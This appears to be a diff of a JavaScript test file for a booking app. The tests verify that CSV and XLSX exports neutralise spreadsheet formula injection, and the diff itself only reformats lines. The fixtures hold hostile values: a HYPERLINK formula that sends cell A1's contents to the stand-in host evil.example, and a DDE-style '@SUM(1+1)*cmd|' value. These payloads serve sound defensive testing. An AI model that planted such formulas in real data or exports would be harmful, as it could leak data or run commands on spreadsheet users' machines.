@@ -7,9 +7,21 @@ const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 beforeAll(async () => {
   t = await testApp();
   ({ agent: owner } = await loggedIn(t.app, { plan_name: 'Business Monthly' }));
-  const client = (await owner.post('/api/v1/clients', { first_name: EVIL, last_name: '@SUM(1+1)*cmd|', email: 'evil@example.com' })).json().data;
+  const client = (
+    await owner.post('/api/v1/clients', { first_name: EVIL, last_name: '@SUM(1+1)*cmd|', email: 'evil@example.com' })
+  ).json().data;
   const service = (await owner.post('/api/v1/services', { title: '+Cut', price: 3000, duration: 30 })).json().data;
-  expect((await owner.post('/api/v1/appointments', { type: 'service', service_id: service.id, client_ids: [client.id], date: '2027-03-01', start_time: '10:00' })).statusCode).toBe(201);
+  expect(
+    (
+      await owner.post('/api/v1/appointments', {
+        type: 'service',
+        service_id: service.id,
+        client_ids: [client.id],
+        date: '2027-03-01',
+        start_time: '10:00',
+      })
+    ).statusCode,
+  ).toBe(201);
 });
 afterAll(async () => t.close());
 
@@ -36,10 +48,18 @@ describe('exports never carry a live formula', () => {
   });
 
   it('the appointments export quotes the client and service names and keeps the price a number', async () => {
-    const csv = await owner.post('/api/v1/appointments/export', { format: 'csv', from: '2027-03-01', to: '2027-03-01' });
+    const csv = await owner.post('/api/v1/appointments/export', {
+      format: 'csv',
+      from: '2027-03-01',
+      to: '2027-03-01',
+    });
     expect(csv.body).toContain("'+Cut");
     expect(csv.body).toContain(`'=HYPERLINK(`);
-    const rows = await xlsxRows((await owner.post('/api/v1/appointments/export', { format: 'xlsx', from: '2027-03-01', to: '2027-03-01' })).rawPayload, 'appointments');
+    const rows = await xlsxRows(
+      (await owner.post('/api/v1/appointments/export', { format: 'xlsx', from: '2027-03-01', to: '2027-03-01' }))
+        .rawPayload,
+      'appointments',
+    );
     expect(rows[1][4]).toBe("'+Cut");
     expect(String(rows[1][5]).startsWith("'=HYPERLINK(")).toBe(true);
     expect(rows[1][6]).toBe(3000);
